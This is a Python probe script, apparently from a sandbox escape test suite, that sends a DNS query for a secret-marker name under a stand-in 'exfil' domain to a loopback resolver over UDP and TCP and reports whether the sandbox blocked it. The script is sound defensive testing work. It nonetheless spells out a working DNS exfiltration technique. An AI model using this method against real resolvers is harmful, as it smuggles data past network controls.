"""DNS exfiltration straight to a resolver, ignoring the proxy (red-team cases 11.4 #43/#44, docs/peers.md).

usage: dns.py PORT MARKER. Sends an A query for <MARKER>.exfil.nemoclaw-escape.test to the
host's resolver stand-in on 127.0.0.1:PORT over UDP, then over TCP; ESCAPED when the resolver
answers (it saw the secret-carrying name). Only that loopback resolver is ever asked."""
import os
import random
import socket
import struct
import sys


def query(name: str) -> tuple[int, bytes]:
    qid = random.randrange(1, 65535)
    header = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return qid, header + labels + b"\x00" + struct.pack(">HH", 1, 1)


def main() -> int:
    if len(sys.argv) < 3:
        print("PROBE-ERROR: usage: dns.py PORT MARKER")
        return 2
    port, marker = int(sys.argv[1]), sys.argv[2]
    name = f"{marker}.exfil.nemoclaw-escape.test"
    notes = []
    qid, packet = query(name)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1.0)
        for _ in range(2):
            s.sendto(packet, ("127.0.0.1", port))
            try:
                data = s.recv(512)
            except socket.timeout:
                continue
            if len(data) >= 2 and struct.unpack(">H", data[:2])[0] == qid:
                print(f"ESCAPED: UDP DNS query for {name} answered by the host's resolver 127.0.0.1:{port}")
                return 0
        notes.append("UDP: no answer")
    except OSError as e:
        notes.append(f"UDP: {e.strerror or e}")
    try:
        t = socket.create_connection(("127.0.0.1", port), timeout=2)
        t.settimeout(2)
        t.sendall(struct.pack(">H", len(packet)) + packet)
        data = t.recv(514)
        if len(data) >= 4 and struct.unpack(">H", data[2:4])[0] == qid:
            print(f"ESCAPED: TCP DNS query for {name} answered by the host's resolver 127.0.0.1:{port}")
            return 0
        notes.append("TCP: no answer")
    except OSError as e:
        notes.append(f"TCP: {e.strerror or e}")
    resolv = "absent"
    if os.path.exists("/etc/resolv.conf"):
        with open("/etc/resolv.conf", encoding="utf-8", errors="replace") as f:
            servers = [line.split()[1] for line in f if line.startswith("nameserver") and len(line.split()) > 1]
        resolv = "nameservers " + ",".join(servers) if servers else "no nameservers"
    notes.append(f"/etc/resolv.conf: {resolv} (never queried)")
    print("BLOCKED: " + "; ".join(notes))
    return 1


if __name__ == "__main__":
    sys.exit(main())
